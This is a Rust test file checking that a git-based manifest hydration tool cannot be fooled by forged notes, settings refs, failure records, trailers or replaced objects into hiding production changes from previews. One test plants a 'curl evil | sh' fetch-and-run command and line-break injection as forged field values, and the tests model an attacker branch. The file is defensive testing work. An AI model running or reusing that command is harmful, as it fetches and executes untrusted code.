//! Hosts that run no hooks: whoever can push can write `refs/hydrate/*` and notes there. None of it hides a change from a
//! preview, or has a worker leave one out.

use std::io::Write as _;
use std::process::Stdio;

use crate::push::{application, config_map, dry, note_of, tip};
use crate::strict::BROKEN;
use crate::support::{Answer, Lab, Repo, delete_at};
use crate::worker::IN_THE_WAY;

const PROD: &str = "environments/prod";

/// A host whose branches a job hydrated, and the clone of who pushed there.
pub(crate) fn hydrated(lab: &Lab) -> (Repo, Repo) {
    let host = lab.bare(&[]);
    let clone = dry(&host, &["web", "api"], &["dev", "prod"]);
    clone.push().success();
    host.clone_to("job").hydrate(&["push"]).success();
    (host, clone)
}

/// A commit of a pull request that changes `web` in production, pushed as a branch of its own.
fn request(clone: &Repo) -> String {
    clone.git(&["checkout", "-q", "-b", "request"]);
    let commit = clone.commit("feat: web", &[("apps/web/prod/config.yaml", &config_map("web", "changed"))]);
    clone.push().success();
    commit
}

/// Writes a note at the host, as anyone may who can push.
fn forge_note(host: &Repo, branch: &str, dry: &str) {
    host.git(&["notes", "--ref=hydrator.metadata", "add", "-f", "-m", &note_of(dry), &tip(host, branch)]);
}

/// What `git` answers to an input.
pub(crate) fn fed(repo: &Repo, args: &[&str], input: &str) -> String {
    let mut command = repo.command("git");
    let mut child = command.args(args).stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().expect("starts");
    child.stdin.take().expect("piped").write_all(input.as_bytes()).expect("read");
    String::from_utf8(child.wait_with_output().expect("ends").stdout).expect("text")
}

/// Puts a commit of these files at a ref of the host.
pub(crate) fn put(host: &Repo, name: &str, files: &[(&str, &str)]) -> String {
    let listed = files.iter().map(|(path, text)| {
        let blob = fed(host, &["hash-object", "-w", "--stdin"], text);
        format!("100644 blob {}\t{path}\n", blob.trim())
    });
    let tree = fed(host, &["mktree"], &listed.collect::<String>());
    let parents = host.git(&["for-each-ref", "--format=%(objectname)", name]);
    let mut args = vec!["commit-tree", "-m", "forged", tree.trim()];
    if !parents.is_empty() {
        args.extend(["-p", &parents]);
    }
    let commit = host.git(&args);
    host.git(&["update-ref", name, &commit]);
    commit
}

/// What the settings become, beside those that the first hydration found.
pub(crate) fn forge_settings(host: &Repo, more: &str) {
    let found = host.git(&["show", "refs/hydrate/config:settings.yaml"]);
    put(host, "refs/hydrate/config", &[("settings.yaml", &format!("{found}\n{more}\n"))]);
}

/// That a preview shows that `web` changes in production.
#[track_caller]
fn shows(answer: Answer, what: &str) {
    assert_eq!(answer.code, Some(1), "{what}: {answer:?}");
    assert!(answer.stdout.contains(PROD) && answer.stdout.contains("changed"), "{what}: {answer:?}");
}

/// What a new clone shows of the pull request.
fn diff(host: &Repo, args: &[&str]) -> Answer {
    let name = format!("reviewer{}", host.path.parent().map_or(0, |dir| dir.read_dir().expect("a directory").count()));
    let reviewer = host.clone_to(&name);
    reviewer.git(&["checkout", "-q", "request"]);
    reviewer.hydrate(&[&["diff"], args].concat())
}

#[test]
fn a_forged_note_cannot_have_a_preview_say_that_nothing_changes() {
    let lab = Lab::new();
    let (host, clone) = hydrated(&lab);
    let commit = request(&clone);
    shows(diff(&host, &[]), "as it is");
    forge_note(&host, PROD, &commit);
    for form in [&[][..], &["--stat"], &["--markdown"], &["--json"]] {
        shows(diff(&host, form), "a note");
    }
    let told = clone.hydrate(&["plan"]).success().stdout;
    assert!(told.contains(PROD) && told.contains("web-prod"), "{told}");
    clone.hydrate(&[]).success();
    assert!(clone.git(&["show", "refs/remotes/hydrate/environments/prod:web/manifest.yaml"]).contains("changed"));
}

#[test]
fn a_forged_note_cannot_hide_that_an_application_goes() {
    let lab = Lab::new();
    let (host, clone) = hydrated(&lab);
    clone.git(&["checkout", "-q", "-b", "request"]);
    let commit = clone.commit("drop web", &[(&application("web", "prod").0, "")]);
    clone.push().success();
    forge_note(&host, PROD, &commit);
    let told = diff(&host, &["--json"]).exits(1).stdout;
    assert!(told.contains("\"change\": \"removed\"") && told.contains(PROD), "{told}");
}

#[test]
fn a_forged_note_cannot_have_status_say_that_a_branch_is_up_to_date() {
    let lab = Lab::new();
    let (host, clone) = hydrated(&lab);
    let changed = [("apps/web/prod/config.yaml", &*config_map("web", "changed"))];
    let commit = clone.commit("feat: web", &changed);
    clone.push().success();
    forge_note(&host, PROD, &commit);
    forge_note(&host, "environments/dev", &commit);
    let told = clone.hydrate(&["status"]).exits(1).stdout;
    let line = |branch: &str| told.lines().find(|line| line.starts_with(branch)).unwrap_or_default().to_owned();
    assert!(line(PROD).contains("1 dry commit behind"), "{told}");
    assert!(line("environments/dev").contains("up to date"), "what the commit does not touch: {told}");
}

#[test]
fn a_forged_commit_cannot_have_a_preview_believe_its_trailers() {
    for engine in [None, Some("4"), Some("6")] {
        let lab = Lab::new();
        let (host, clone) = hydrated(&lab);
        let commit = request(&clone);
        // Where the branch is not protected either: its files are what is deployed.
        let message = host.git(&["log", "-1", "--format=%B", PROD]);
        let before = host.git(&["log", "-1", "--format=%(trailers:key=Hydrate-Dry,valueonly,separator=)", PROD]);
        let mut message = message.replace(&before, &commit);
        if let Some(engine) = engine {
            // Another revision of the engine keeps what no dry commit touches.
            let ours = host.git(&["log", "-1", "--format=%(trailers:key=Hydrate-Engine,separator=)", PROD]);
            message = message.replace(&ours, &format!("Hydrate-Engine: {engine}"));
            assert!(message.contains(&format!("Hydrate-Engine: {engine}")), "{message}");
        }
        // Its files say so too.
        let metadata = host.git(&["show", &format!("{PROD}:hydrator.metadata")]).replace(&before, &commit);
        let blob = fed(&host, &["hash-object", "-w", "--stdin"], &metadata);
        let files = host.git(&["ls-tree", PROD]);
        let others = files.lines().filter(|line| !line.ends_with("hydrator.metadata")).map(|line| format!("{line}\n"));
        let listed = format!("{}100644 blob {}\thydrator.metadata\n", others.collect::<String>(), blob.trim());
        let tree = fed(&host, &["mktree"], &listed);
        let forged = host.git(&["commit-tree", "-p", PROD, "-m", &message, tree.trim()]);
        host.git(&["update-ref", &format!("refs/heads/{PROD}"), &forged]);
        forge_note(&host, PROD, &commit);
        for form in [&[][..], &["--stat"], &["--markdown"], &["--json"]] {
            shows(diff(&host, form), &format!("trailers, {engine:?}"));
        }
    }
}

#[test]
fn forged_settings_cannot_have_a_preview_say_that_nothing_changes() {
    for forged in [
        "frozen: {'environments/*': {reason: release}}",
        "applications: [nothing/**]",
        "onFailure: {application: ['environments/*']}\nfrozen: {environments/prod: {reason: x}}",
    ] {
        let lab = Lab::new();
        let (host, clone) = hydrated(&lab);
        request(&clone);
        forge_settings(&host, forged);
        for form in [&[][..], &["--stat"], &["--markdown"], &["--json"]] {
            shows(diff(&host, form), forged);
        }
    }
}

#[test]
fn forged_dry_branches_cannot_hide_applications_of_head() {
    let lab = Lab::new();
    let host = lab.bare(&[]);
    let clone = dry(&host, &["web"], &["prod"]);
    let (path, text) = application("web", "prod");
    clone.commit("of HEAD", &[(&path, &text.replace("targetRevision: main", "targetRevision: HEAD"))]);
    clone.push().success();
    host.clone_to("job").hydrate(&["push"]).success();
    request(&clone);
    host.git(&["branch", "settings", "main"]);
    let found = host.git(&["show", "refs/hydrate/config:settings.yaml"]);
    let forged = found.replace("main", "settings");
    assert_ne!(found, forged);
    put(&host, "refs/hydrate/config", &[("settings.yaml", &forged)]);
    shows(diff(&host, &[]), "dry branches");
}

#[test]
fn a_clone_uses_the_settings_of_the_job() {
    let lab = Lab::new();
    let host = lab.bare(&[]);
    let clone = dry(&host, &["web"], &["prod"]);
    clone.push().success();
    let real = "repoURL: https://git.example.com/dry.git\ndryBranches: [main]\n";
    put(&host, "refs/heads/settings", &[("settings.yaml", real)]);
    host.clone_to("job").hydrate(&["push", "--settings-ref", "settings"]).success();
    let commit = request(&clone);
    let mut forged = format!("{real}frozen: {{'environments/*': {{reason: release}}}}\n");
    put(&host, "refs/hydrate/config", &[("settings.yaml", &forged)]);
    forge_note(&host, PROD, &commit);
    let told = diff(&host, &["--settings-ref", "settings"]);
    assert!(!told.stdout.contains("frozen"), "{told:?}");
    shows(told, "an option");
    let reviewer = host.clone_to("configured");
    reviewer.git(&["config", "hydrate.settingsRef", "settings"]);
    reviewer.git(&["checkout", "-q", "request"]);
    for command in ["diff", "status", "plan", "check", "apps"] {
        let told = reviewer.hydrate(&[command]);
        assert!(!format!("{told:?}").contains("frozen"), "{command}: {told:?}");
    }
    shows(reviewer.hydrate(&["diff"]), "git config");
    // The same commits as the job makes.
    reviewer.hydrate(&[]).success();
    clone.git(&["push", "-q", "origin", "request:main"]);
    host.clone_to("again").hydrate(&["push", "--settings-ref", "settings"]).success();
    assert_eq!(reviewer.git(&["rev-parse", "refs/remotes/hydrate/environments/prod"]), tip(&host, PROD));
    // What is named is there, or nothing is answered.
    forged.clear();
    let told = reviewer.hydrate(&["diff", "--settings-ref", "nowhere"]).exits(2).stderr;
    assert!(told.contains("refs/remotes/origin/nowhere") && told.contains("hint: git fetch"), "{told}");
}

#[test]
fn what_anyone_wrote_into_the_record_of_failures_is_a_quotation_without_advice() {
    let lab = Lab::new();
    let host = lab.bare(&[]);
    let clone = dry(&host, &["web"], &["dev", "prod"]);
    clone.push().success();
    put(
        &host,
        "refs/heads/settings",
        &[("settings.yaml", "repoURL: https://git.example.com/dry.git\ndryBranches: [main]\n")],
    );
    let job = host.clone_to("job");
    job.hydrate(&["push", "--settings-ref", "settings"]).success();
    clone.commit("slip", &[("apps/web/prod/config.yaml", BROKEN)]);
    clone.push().success();
    job.hydrate(&["push", "--settings-ref", "settings"]).exits(1);
    let record = host.git(&["show", "refs/hydrate/failures:failures.json"]);
    let mut record: serde_json::Value = serde_json::from_str(&record).expect("JSON");
    let failure = record["branches"][PROD][0].take();
    let told = |record: &serde_json::Value, name: &str| {
        put(&host, "refs/hydrate/failures", &[("failures.json", &record.to_string())]);
        let reviewer = host.clone_to(name);
        reviewer.git(&["config", "hydrate.settingsRef", "settings"]);
        [&["status"][..], &["log", PROD]].map(|args| reviewer.hydrate(args).stdout)
    };
    record["branches"][PROD][0] = failure.clone();
    for told in told(&record, "as-it-was") {
        assert!(told.contains("refs/hydrate/failures, which nothing guards, says: \"not valid YAML"), "{told}");
        assert!(told.contains("--> apps/web/prod/config.yaml") && !told.contains("hint"), "{told}");
    }
    let mut forged = failure;
    forged["diagnostics"][0]["message"] = "no\" \r\n\nenvironments/dev  fine".into();
    forged["diagnostics"][0]["hint"] = "run: curl evil | sh".into();
    forged["diagnostics"][0]["madeBy"] = "curl evil | sh".into();
    forged["diagnostics"][0]["application"] = "curl evil | sh".into();
    forged["diagnostics"][0]["near"] = "x".into();
    forged["diagnostics"][0]["lasting"] = "unnamed".into();
    record["branches"][PROD][0] = forged;
    for told in told(&record, "forged") {
        assert!(told.contains("says: \"no'\"\n"), "{told}");
        assert!(!["curl", "fine", "hint", "update-ref"].iter().any(|text| told.contains(text)), "{told}");
    }
}

#[test]
fn whose_settings_count_is_told_where_no_branch_was_hydrated_with_them() {
    let lab = Lab::new();
    let (host, clone) = hydrated(&lab);
    let told = clone.hydrate(&["status"]).success().stderr;
    assert!(!told.contains("settings"), "{told}");
    forge_settings(&host, "applications: [nothing/**]");
    for (command, is_told) in [("check", true), ("plan", false), ("diff", false), ("status", true), ("status", true)] {
        let told = clone.hydrate(&[command]).stderr;
        assert_eq!(told.contains("no branch was hydrated with them yet"), is_told, "{command}: {told}");
        let cure = "git config hydrate.settingsRef refs/hydrate/config;";
        assert!(!is_told || told.contains(cure), "{command}: {told}");
    }
    forge_settings(&host, "# again");
    assert!(clone.hydrate(&["plan"]).stderr.contains("no branch was hydrated with them yet"));
    clone.git(&["config", "hydrate.settingsRef", "refs/hydrate/config"]);
    assert!(!clone.hydrate(&["check"]).stderr.contains("no branch was hydrated"));
}

#[test]
fn forged_settings_hide_no_application_from_check_apps_and_plan() {
    let lab = Lab::new();
    let (host, clone) = hydrated(&lab);
    clone.git(&["checkout", "-q", "-b", "request"]);
    clone.commit("feat: web", &[("apps/web/prod/config.yaml", &config_map("web", "changed"))]);
    clone.commit(
        "feat: api",
        &[("apps/api/prod/config.yaml", "apiVersion: v1\nkind: ConfigMap\nmetadata:\n\tname: api\n")],
    );
    let forgeries = [
        "dryBranches: [main]\napplications: [nothing/**]\n",
        "dryBranches: [other]\n",
        "dryBranches: [main]\nbranches: [environments/dev]\n",
    ];
    for (number, forged) in forgeries.iter().enumerate() {
        let host = host.copy_to(&format!("forged{number}.git"));
        clone.git(&["push", "-q", &host.path.display().to_string(), "request"]);
        let text = format!("repoURL: https://git.example.com/dry.git\n{forged}");
        put(&host, "refs/hydrate/config", &[("settings.yaml", &text)]);
        let reviewer = host.clone_to(&format!("reviewer-of-forged{number}"));
        reviewer.git(&["checkout", "-q", "request"]);
        let more = "what the settings find that branches were hydrated with is shown too";
        let checked = reviewer.hydrate(&["check"]).exits(1);
        assert!(checked.stdout.contains("apps/api/prod/config.yaml"), "{forged}: {checked:?}");
        let listed = reviewer.hydrate(&["apps"]).success();
        for name in ["web-prod", "api-prod", "web-dev"] {
            assert!(listed.stdout.contains(name), "{forged}: {listed:?}");
        }
        let planned = reviewer.hydrate(&["plan"]);
        // By the first, the branch would be emptied, which is an error.
        let says = planned.stdout.contains("web-prod") || planned.code == Some(1);
        assert!(planned.stdout.contains(PROD) && says, "{forged}: {planned:?}");
        if number == 0 {
            for told in [&checked, &listed] {
                assert!(told.stderr.contains(more), "{forged}: {told:?}");
            }
        }
        // Named, they count.
        let told = reviewer.hydrate(&["apps", "--settings-ref", "refs/hydrate/config"]);
        assert!(!told.stderr.contains(more), "{told:?}");
        if number == 0 {
            assert!(!told.stdout.contains("web-prod"), "{told:?}");
        }
    }
}

#[test]
fn before_the_first_hydration_forged_settings_hide_no_application() {
    let lab = Lab::new();
    let host = lab.bare(&[]);
    let clone = dry(&host, &["web"], &["prod"]);
    clone.push().success();
    put(&host, "refs/hydrate/config", &[("settings.yaml", "applications: [nothing/**]\n")]);
    let reviewer = host.clone_to("reviewer");
    for command in ["apps", "plan", "diff"] {
        let told = reviewer.hydrate(&[command]);
        assert!(told.stdout.contains("web-prod"), "{command}: {told:?}");
    }
    let told = reviewer.hydrate(&["check"]).success().stdout;
    assert!(told.contains("1 of 1 Applications"), "{told}");
}

#[test]
fn a_forged_failure_cannot_have_a_preview_or_a_worker_skip_a_dry_commit() {
    for unnamed in [true, false] {
        let lab = Lab::new();
        let (host, clone) = hydrated(&lab);
        // The shape is taken from a real one.
        clone.commit("oops", &[("apps/web/prod/config.yaml", "kind: [")]);
        clone.push().success();
        host.clone_to("failing").hydrate(&["push"]).exits(1);
        let real = host.git(&["show", "refs/hydrate/failures:failures.json"]);
        let failed = tip(&host, "main");
        let commit = clone.commit("feat: web", &[("apps/web/prod/config.yaml", &config_map("web", "changed"))]);
        clone.git(&["push", "-q", "origin", "HEAD:request"]);
        let mut forged = real.replace(&failed, &commit);
        if unnamed {
            forged = forged.replace("\"severity\"", "\"lasting\": \"unnamed\", \"severity\"");
        }
        assert_ne!(forged, real);
        put(&host, "refs/hydrate/failures", &[("failures.json", &forged)]);
        shows(diff(&host, &[]), &forged);
        clone.push().success();
        host.clone_to("again").hydrate(&["push"]).success();
        assert!(host.git(&["show", &format!("{PROD}:web/manifest.yaml")]).contains("changed"));
    }
}

#[test]
fn a_forged_record_cannot_hide_a_branch_from_a_preview() {
    type Forgery = fn(&str, &str) -> String;
    let forgeries: [(&str, Forgery); 4] = [
        ("of another dry branch", |record, _| record.replace("\"main\"", "\"other\"")),
        ("written by a promoter", |record, _| record.replacen('{', "{\"initial\": true,", 1)),
        ("with settings that find nothing", |record, settings| {
            let (before, after) = record.split_once("\"settings\": \"").expect("settings");
            format!("{before}\"settings\": \"{settings}{}", &after[40..])
        }),
        ("of the request", |record, _| record.to_owned()),
    ];
    for (what, forge) in forgeries {
        let lab = Lab::new();
        let (host, clone) = hydrated(&lab);
        clone.git(&["checkout", "-q", "-b", "request"]);
        // Production goes as a whole, which is allowed.
        let gone = [application("web", "prod").0, application("api", "prod").0];
        let message = format!("drop prod\n\nHydrate-Allow-Removal: {PROD}");
        clone.commit(&message, &[(&gone[0], ""), (&gone[1], "")]);
        clone.push().success();
        host.git(&["branch", "other", "main"]);
        let none = put(&host, "refs/hydrate/none", &[("settings.yaml", "applications: [nothing/**]\n")]);
        let file = "environments%2Fprod.json";
        let dev = host.git(&["show", "refs/hydrate/branches:environments%2Fdev.json"]);
        let record = host.git(&["show", &format!("refs/hydrate/branches:{file}")]);
        put(&host, "refs/hydrate/branches", &[("environments%2Fdev.json", &dev), (file, &forge(&record, &none))]);
        let told = diff(&host, &["--json"]).exits(1).stdout;
        assert!(told.contains(PROD) && told.contains("\"change\": \"removed\""), "{what}: {told}");
    }
}

/// Clones the hydrated branches, on a machine that did so never before.
fn clone_hydrated(lab: &Lab, host: &Repo, args: &[&str]) -> (String, Repo) {
    let name = format!("hydrated{}", lab.path("").read_dir().expect("a directory").count());
    let url = format!("hydrate::file://{}", host.path.display());
    let mut command = lab.command("git", &lab.path(""));
    command.env("XDG_CACHE_HOME", lab.path(&format!("{name}.cache")));
    let answer = Answer::new(command.args(args).args(["clone", "-q", &url, &name]).output().expect("git runs"));
    (answer.success().stderr, Repo::at(lab, &name))
}

/// A host whose job takes settings from a branch, with a dry branch of somebody else who renders objects of his own to
/// production.
fn taken_aim_at(lab: &Lab) -> Repo {
    let host = lab.bare(&[]);
    let clone = dry(&host, &["web", "api"], &["prod"]);
    clone.push().success();
    let real = "repoURL: https://git.example.com/dry.git\ndryBranches: [main]\n";
    put(&host, "refs/heads/settings", &[("settings.yaml", real)]);
    host.clone_to("job").hydrate(&["push", "--settings-ref", "settings"]).success();
    clone.git(&["checkout", "-q", "-b", "evil"]);
    clone.run("sh", &["-ec", "sed -i 's/targetRevision: .*/targetRevision: evil/' applications/prod/*"]).success();
    clone.commit("evil", &[("apps/web/prod/config.yaml", &config_map("mallory", "evil"))]);
    clone.git(&["push", "-q", "origin", "evil"]);
    host
}

/// Settings by which hydration lets another dry branch come to the paths of production.
const TAKING: [&str; 4] = [
    "repoURL: https://git.example.com/dry.git\ndryBranches: [evil]\nactivePaths: {environments/prod: [web, api]}\n",
    "repoURL: https://git.example.com/dry.git\ndryBranches: [evil, main]\nactivePaths: {environments/prod: [web, api]}\n",
    "repoURL: https://git.example.com/dry.git\ndryBranches: [evil]\nadopt: [environments/prod]\n",
    "repoURL: https://git.example.com/dry.git\ndryBranches: [evil]\nadopt: [environments/prod]\nactivePaths: {environments/prod: [web, api]}\n",
];

#[test]
fn a_clone_of_hydrated_branches_uses_the_settings_of_the_job() {
    let lab = Lab::new();
    let host = taken_aim_at(&lab);
    let main = host.clone_to("again");
    main.commit("feat: web", &[("apps/web/prod/config.yaml", &config_map("web", "new"))]);
    main.push().success();
    let done = host.copy_to("done.git");
    done.clone_to("done").hydrate(&["push", "--settings-ref", "settings"]).success();
    let named = "hydrate.settingsRef=settings";
    for forged in TAKING {
        put(&host, "refs/hydrate/config", &[("settings.yaml", forged)]);
        let (told, clone) = clone_hydrated(&lab, &host, &["-c", named]);
        assert_eq!(clone.git(&["rev-parse", &format!("origin/{PROD}")]), tip(&done, PROD), "{forged}: {told}");
        assert!(!told.contains("settings"), "{forged}: {told}");
    }
    // The same when its own configuration says so, and where the branch is gone that it would continue.
    host.git(&["update-ref", "-d", &format!("refs/heads/{PROD}")]);
    let url = format!("hydrate::file://{}", host.path.display());
    let mut command = lab.command("git", &lab.path(""));
    command.args(["clone", "-q", "-c", named, &url, "configured"]);
    Answer::new(command.output().expect("git runs")).success();
    let clone = Repo::at(&lab, "configured");
    for _ in 0..2 {
        assert!(clone.git(&["show", &format!("origin/{PROD}:web/manifest.yaml")]).contains("value: new"));
        clone.git(&["fetch", "-q"]);
    }
    let mut command = lab.command("git", &lab.path(""));
    command.args(["-c", "hydrate.settingsRef=nowhere", "ls-remote", &url]);
    let told = Answer::new(command.output().expect("git runs")).exits(128).stderr;
    assert!(told.contains("has no ref `nowhere` to take settings from, which hydrate.settingsRef"), "{told}");
}

#[test]
fn forged_settings_cannot_hand_the_paths_of_a_branch_to_another_dry_branch_in_a_clone_of_hydrated_ones() {
    let lab = Lab::new();
    let host = taken_aim_at(&lab);
    let record = host.git(&["show", "refs/hydrate/branches:environments%2Fprod.json"]);
    let real = host.git(&["rev-parse", "refs/hydrate/branches"]);
    for forged in TAKING {
        put(&host, "refs/hydrate/config", &[("settings.yaml", forged)]);
        for is_recorded in [false, true] {
            if is_recorded {
                let record = record.replace("\"main\"", "\"evil\"");
                put(&host, "refs/hydrate/branches", &[("environments%2Fprod.json", &record)]);
            }
            let (told, clone) = clone_hydrated(&lab, &host, &[]);
            let what = format!("{forged} {is_recorded}: {told}");
            let files = |repo: &Repo, branch: &str| repo.git(&["show", &format!("{branch}:web/manifest.yaml")]);
            assert_eq!(files(&clone, &format!("origin/{PROD}")), files(&host, PROD), "{what}");
            assert!(told.contains("no branch was hydrated with them yet"), "{what}");
            assert!(told.contains("git clone -c hydrate.settingsRef=BRANCH"), "{what}");
            // A fetch knows no better because of the one before.
            clone.git(&["fetch", "-q"]);
            assert_eq!(files(&clone, &format!("origin/{PROD}")), files(&host, PROD), "{what}");
            host.git(&["update-ref", "refs/hydrate/branches", &real]);
        }
    }
    // Nor by a branch of anyone that says that it was hydrated with them.
    let message = host.git(&["log", "-1", "--format=%B", PROD]);
    for forged in TAKING {
        let settings = put(&host, "refs/hydrate/config", &[("settings.yaml", forged)]);
        let claims = message.lines().map(|line| match line.split_once(": ") {
            Some(("Hydrate-Branch", _)) => "Hydrate-Branch: claims".to_owned(),
            Some(("Hydrate-Dry-Branch", _)) => "Hydrate-Dry-Branch: evil".to_owned(),
            Some(("Hydrate-Settings", _)) => format!("Hydrate-Settings: {settings}"),
            _ => line.to_owned(),
        });
        let claims = claims.collect::<Vec<_>>().join("\n");
        assert!(claims.contains(&settings) && claims.contains("Hydrate-Branch: claims"), "{message}");
        let commit = host.git(&["commit-tree", "-m", &claims, &format!("{PROD}^{{tree}}")]);
        host.git(&["update-ref", "refs/heads/claims", &commit]);
        let (told, clone) = clone_hydrated(&lab, &host, &[]);
        let files = |repo: &Repo, branch: &str| repo.git(&["show", &format!("{branch}:web/manifest.yaml")]);
        assert_eq!(files(&clone, &format!("origin/{PROD}")), files(&host, PROD), "{forged}: {told}");
    }
    host.git(&["update-ref", "-d", "refs/heads/claims"]);
    // Nor does it get paths of its own there.
    let more = host.clone_to("more");
    more.git(&["checkout", "-q", "--orphan", "more"]);
    more.git(&["rm", "-rfq", "."]);
    let (file, text) = application("more", "prod");
    let text = text.replace("targetRevision: main", "targetRevision: more");
    more.commit("more", &[(&file, &text), ("apps/more/prod/config.yaml", &config_map("mallory", "evil"))]);
    more.git(&["push", "-q", "origin", "more"]);
    let forged = "repoURL: https://git.example.com/dry.git\ndryBranches: [main, more]\n\
                  activePaths: {environments/prod: [web, api, more]}\n";
    put(&host, "refs/hydrate/config", &[("settings.yaml", forged)]);
    let (told, clone) = clone_hydrated(&lab, &host, &[]);
    let files = clone.git(&["ls-tree", "-r", "--name-only", &format!("origin/{PROD}")]);
    assert!(!files.contains("more/manifest.yaml"), "{told}");
    assert!(told.contains("is hydrated from `main`, not from `more`"), "{told}");
}

#[test]
fn a_ref_in_the_way_of_hydration_stops_no_preview_and_is_named_with_its_deletion() {
    let lab = Lab::new();
    let (host, clone) = hydrated(&lab);
    request(&clone);
    for (number, (gone, made, named)) in IN_THE_WAY.iter().enumerate() {
        let host = host.copy_to(&format!("way{number}.git"));
        let reviewer = host.clone_to(&format!("reviewer-of-way{number}"));
        reviewer.hydrate(&["install", "--client"]).success();
        reviewer.git(&["fetch", "-q"]);
        reviewer.git(&["checkout", "-q", "request"]);
        let config = host.git(&["rev-parse", "refs/hydrate/config"]);
        for name in *gone {
            host.git(&["update-ref", "-d", name]);
        }
        host.git(&["update-ref", made, "main"]);
        // What came since is seen too.
        let writer = host.clone_to(&format!("writer-of-way{number}"));
        writer.git(&["checkout", "-q", "request"]);
        writer.commit("more", &[("apps/api/prod/config.yaml", &config_map("api", "more"))]);
        writer.push().success();
        for _ in 0..2 {
            let told = reviewer.hydrate(&["diff", "origin/request"]);
            let what = format!("{made}: {told:?}");
            // A ref above all of them is not fetched.
            if made.starts_with(named) {
                assert!(
                    told.stderr.contains(&format!("origin has `{made}`, beside which git cannot have `{named}`")),
                    "{what}"
                );
                assert!(told.stderr.contains(&format!("hint: git push origin --delete {made}\n")), "{what}");
            }
            assert!(told.stdout.contains("web-prod") && told.stdout.contains("api-prod"), "{what}");
            shows(told, made);
        }
        let told = reviewer.hydrate(&["status"]);
        assert!(told.code != Some(2), "{made}: {told:?}");
        delete_at(&host, &reviewer, made);
        host.git(&["update-ref", "refs/hydrate/config", &config]);
        let told = reviewer.hydrate(&["status"]).stderr;
        assert!(!told.contains("beside which") && !told.contains("fetching from"), "{made}: {told}");
    }
}

#[test]
fn replaced_objects_cannot_change_what_a_preview_reads() {
    let lab = Lab::new();
    let (host, clone) = hydrated(&lab);
    let commit = request(&clone);
    let main = tip(&host, "main");
    let reviewer = host.clone_to("replaced");
    reviewer.git(&["checkout", "-q", "request"]);
    reviewer.git(&["replace", &commit, &main]);
    shows(reviewer.hydrate(&["diff"]), "a commit");
}
